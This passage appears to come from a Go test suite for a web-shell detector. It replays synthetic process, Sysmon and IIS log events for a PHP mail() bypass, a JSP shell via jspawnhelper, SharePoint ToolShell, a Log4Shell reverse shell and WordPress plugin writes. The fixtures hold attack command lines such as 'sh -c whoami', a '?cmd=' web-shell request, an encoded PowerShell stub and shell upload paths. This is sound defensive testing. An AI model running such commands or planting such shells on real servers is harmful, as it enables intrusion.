	det, err = detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	docs := []map[string]any{in(shellDoc(5, 900, 800, "sh -c whoami"), "/opt/tomcat"), in(shellDoc(6, 901, 800, "sh -c whoami"), "/tmp"), shellDoc(7, 902, 800, "sh -c whoami")}
	for _, d := range docs {
		det.ProcessAll(d)
	}
	for _, d := range docs[1:] {
		if got, want := str(d, "webshell.session.id"), str(docs[0], "webshell.session.id"); got != want || sev(d) != 21 {
			t.Errorf("shell in %q: session %q severity %d; want the server's session %q, lowered", str(d, "process.working_directory"), got, sev(d), want)
		}
	}
}

// PHP's mail() bypass of disable_functions (TestLiveMailBypass live): the
// request's command runs under the sendmail shell PHP starts, in a child
// of /usr/sbin/sendmail that the preloaded library started. The command's
// alert carries the request and the request lists it (not the sendmail shell),
// whichever comes first; the sendmail shell and sendmail raise no alert.
func TestMailBypassLinks(t *testing.T) {
	const cmd = "whoami > /tmp/o 2>&1"
	for _, requestFirst := range []bool{false, true} {
		det, err := detector.New(config.Default())
		if err != nil {
			t.Fatal(err)
		}
		req := requestDoc(5, "/up/bypass.php?cmd=whoami", "whoami")
		procs := []map[string]any{
			shellDoc(5.30, 900, 800, "sh -c /usr/sbin/sendmail -t -i"),
			shellDoc(5.31, 901, 900, "/usr/sbin/sendmail -t -i"),
			shellDoc(5.32, 902, 901, "sh -c "+cmd),
		}
		procs[1]["process"].(map[string]any)["executable"] = "/usr/sbin/sendmail"
		procs[1]["process"].(map[string]any)["name"] = "sendmail"
		var derived []detector.Derived
		if requestFirst {
			det.ProcessAll(req)
		}
		for _, p := range procs {
			_, d := det.ProcessAll(p)
			derived = append(derived, d...)
		}
		if !requestFirst {
			_, derived = det.ProcessAll(req)
		}
		for _, p := range procs[:2] {
			if str(p, "event.kind") == "alert" {
				t.Errorf("requestFirst=%v: %q raised an alert: %v", requestFirst, str(p, "process.command_line"), ids(p))
			}
		}
		carrier := procs[2]
		if str(carrier, "event.kind") != "alert" {
			t.Fatalf("requestFirst=%v: the command raised no alert", requestFirst)
		}
		if str(carrier, "webshell.request.url.original") == "" && !slices.ContainsFunc(derived, func(d detector.Derived) bool {
			return str(d.Doc, "process.command_line") == "sh -c "+cmd && str(d.Doc, "webshell.request.url.original") == "/up/bypass.php?cmd=whoami"
		}) {
			t.Errorf("requestFirst=%v: the command's alert never carries its request", requestFirst)
		}
		if !slices.Equal(detection.LookupStrings(req, "webshell.processes.command_line"), []string{"sh -c " + cmd}) && !slices.ContainsFunc(derived, func(d detector.Derived) bool {
			return slices.Equal(detection.LookupStrings(d.Doc, "webshell.processes.command_line"), []string{"sh -c " + cmd}) && str(d.Doc, "url.original") == "/up/bypass.php?cmd=whoami"
		}) {
			t.Errorf("requestFirst=%v: the request never lists the command", requestFirst)
		}
	}
}

// A JSP web shell's command in a POST body on Java 13+: the JVM starts it
// through jspawnhelper, which execs sh in the same process. The POST, whose
// body the log lacks, is linked by time alone: to sh, not to jspawnhelper,
// which is no command (live, TestLiveTomcat's POST was linked to nothing).
//
// Only the order in which the audit records come first: when the request
// comes first, a time-only link to a shell that started before the
// request's logged second is not made (found here, left as is).
func TestJSPSpawnHelper(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	java := shellDoc(1, 800, 1, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Dcatalina.base=/var/lib/tomcat10 org.apache.catalina.startup.Bootstrap start")
	helper := shellDoc(4.929, 900, 800, "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper 17.0.15+6-Debian-1deb12u1 53:54:56")
	sh := shellDoc(4.930, 900, 800, "sh -c echo wsbpost")
	for doc, exe := range map[*map[string]any]string{&java: "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", &helper: "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper"} {
		(*doc)["process"].(map[string]any)["executable"] = exe
		(*doc)["process"].(map[string]any)["name"] = path.Base(exe)
		(*doc)["user"] = map[string]any{"name": "tomcat", "id": "105"}
	}
	sh["user"] = map[string]any{"name": "tomcat", "id": "105"}
	req := requestDoc(5, "/cmd.jsp", "")
	req["event"].(map[string]any)["module"] = "tomcat"
	req["http"].(map[string]any)["request"] = map[string]any{"method": "POST"}
	delete(req, "webshell")
	// jspawnhelper tries sh in each folder of Tomcat's PATH first.
	var failed []map[string]any
	for _, dir := range []string{"/usr/local/sbin", "/usr/local/bin", "/usr/sbin"} {
		f := shellDoc(4.9295, 900, 800, "")
		delete(f["process"].(map[string]any), "command_line")
		f["process"].(map[string]any)["executable"] = dir + "/sh"
		f["process"].(map[string]any)["name"] = "sh"
		f["event"].(map[string]any)["outcome"] = "failure"
		f["user"] = map[string]any{"name": "tomcat", "id": "105"}
		failed = append(failed, f)
	}
	for _, d := range append(append([]map[string]any{java, helper}, failed...), sh) {
		det.ProcessAll(d)
	}
	_, derived := det.ProcessAll(req)
	if str(sh, "event.kind") != "alert" {
		t.Fatalf("sh -c under java raised no alert")
	}
	if !slices.ContainsFunc(derived, func(d detector.Derived) bool {
		return str(d.Doc, "process.command_line") == "sh -c echo wsbpost" && str(d.Doc, "webshell.request.url.original") == "/cmd.jsp"
	}) {
		t.Errorf("the shell's alert never carries the POST; request lists %v", detection.LookupStrings(req, "webshell.processes.command_line"))
	}
}

// SharePoint's ToolShell (CVE-2025-53770): w3wp.exe starts powershell.exe,
// which writes spinstall0.aspx into the hive's TEMPLATE\LAYOUTS, which
// SharePoint serves as /_layouts/15/; the attacker then asks for it. The
// write alerts as a web shell's, and its first request, which names no
// folder of the file's path, makes the upload-then-use alert.
func TestSharePointLayoutsUpload(t *testing.T) {
	at := func(sec int) time.Time { return time.Date(2025, 7, 18, 18, 6, sec, 0, time.UTC) }
	w3wp, ps := `C:\Windows\System32\inetsrv\w3wp.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	shell := `C:\Program Files\Common Files\Microsoft Shared\Web Server Extensions\16\TEMPLATE\LAYOUTS\spinstall0.aspx`
	dir := t.TempDir()
	testfiles.Write(t, filepath.Join(dir, "sysmon.xml"),
		testfiles.SysmonEvent(false, 1, at(1), "SP01", "ProcessGuid", "{11111111-2222-3333-4444-555555555555}", "ProcessId", "7400", "Image", ps,
			"CommandLine", "powershell.exe -EncodedCommand JABiAGEAcwBl", "User", `CONTOSO\spfarm`, "ParentProcessId", "5120", "ParentImage", w3wp,
			"ParentCommandLine", `c:\windows\system32\inetsrv\w3wp.exe -ap "SharePoint - 80"`)+"\n"+
			testfiles.SysmonEvent(false, 11, at(2), "SP01", "ProcessGuid", "{11111111-2222-3333-4444-555555555555}", "ProcessId", "7400", "Image", ps,
				"TargetFilename", shell)+"\n")
	testfiles.Write(t, filepath.Join(dir, "u_ex250718.log"), "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"+
		"2025-07-18 18:06:05 10.0.0.5 GET /_layouts/15/spinstall0.aspx - 443 - 96.9.125.147 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:120.0)+Gecko/20100101+Firefox/120.0 /_layouts/SignOut.aspx 200 0 0 31\n")
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	var write, use map[string]any
	if _, err := hunt.Run([]string{dir}, hunt.WithHost(det, "SP01"), func(doc map[string]any) {
		switch {
		case slices.Contains(ids(doc), "2f6c1a4e-8d3b-4f7a-9c2e-5b1d0e7a3c91"):
			use = doc
		case slices.Contains(ids(doc), "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a05"):
			write = doc
		}
	}, nil); err != nil {
		t.Fatal(err)
	}
	if write == nil || str(write, "file.path") != shell {
		t.Errorf("the write of %s: alert %v", shell, write)
	}
	if use == nil || str(use, "file.path") != shell || str(use, "webshell.use.kind") != "request" {
		t.Fatalf("upload-then-use alert %v", use)
	}
}

// OTRF's Log4Shell capture (Sysmon for Linux): Tomcat's java runs a
// reverse shell to 192.168.2.6:443, which alerts; Sysmon for Linux also
// logs a UDP send of that shell with 0:0:0:0:0:0:0:0 and port 0 at both
// ends, which names no destination and alerted as an outbound connection
// to [::]:0 before.
func TestLog4ShellOutbound(t *testing.T) {
	alerts := run(t, config.Default(), data+"OTRF-Security-Datasets/datasets/compound/Log4Shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip")
	var outbound []string
	for _, a := range alerts {
		if slices.Contains(ids(a), "7b80973f-9c21-49d2-8e9a-ddf5fad60cb3") {
			outbound = append(outbound, fmt.Sprintf("%s -> %s:%v", str(a, "process.name"), str(a, "destination.ip"), val(a, "destination.port")))
		}
	}
	if !slices.Equal(outbound, []string{"bash -> 192.168.2.6:443"}) {
		t.Errorf("outbound alerts %q, want the reverse shell's only", outbound)
	}
}

// A CMS unpacking a plugin: php-fpm writes 50 scripts 10 ms apart, one
// burst and one session, the first alert at medium and the others lowered;
// another worker's upload in the middle of it, and the same worker's
// write 20 s later, are sessions of their own at medium.
func TestScriptBurstSession(t *testing.T) {
	var lines []string
	write := func(at time.Time, pid int, file string) {
		xml := testfiles.SysmonEvent(true, 11, at, "web1", "ProcessId", strconv.Itoa(pid), "Image", "/usr/sbin/php-fpm8.2",
			"TargetFilename", file, "User", "www-data")
		lines = append(lines, at.Format("Jan _2 15:04:05")+" web1 sysmon: "+xml)
	}
	for i := range 50 {
		write(base.Add(time.Duration(i)*10*time.Millisecond), 4242, fmt.Sprintf("/var/www/html/wp-content/plugins/akismet/f%d.php", i))
		if i == 25 {
			write(base.Add(time.Duration(i)*10*time.Millisecond), 5151, "/var/www/html/wp-content/uploads/shell.php")
		}
	}
	write(base.Add(20*time.Second), 4242, "/var/www/html/wp-content/uploads/later.php")
	log := filepath.Join(t.TempDir(), "syslog")
	testfiles.Write(t, log, strings.Join(lines, "\n")+"\n")
	sessions := map[string]bool{}
	var medium []string
	for _, a := range run(t, config.Default(), log) {
		f := str(a, "file.path")
		if strings.Contains(f, "/plugins/akismet/") {
			sessions[str(a, "webshell.session.id")] = true
		}
		if sev(a) >= 47 {
			medium = append(medium, path.Base(f))
		}
	}
	if len(sessions) != 1 || !slices.Equal(medium, []string{"f0.php", "shell.php", "later.php"}) {
		t.Errorf("the plugin's scripts in %d sessions; at medium %v; want one session, and f0.php, shell.php and later.php at medium", len(sessions), medium)
	}
}
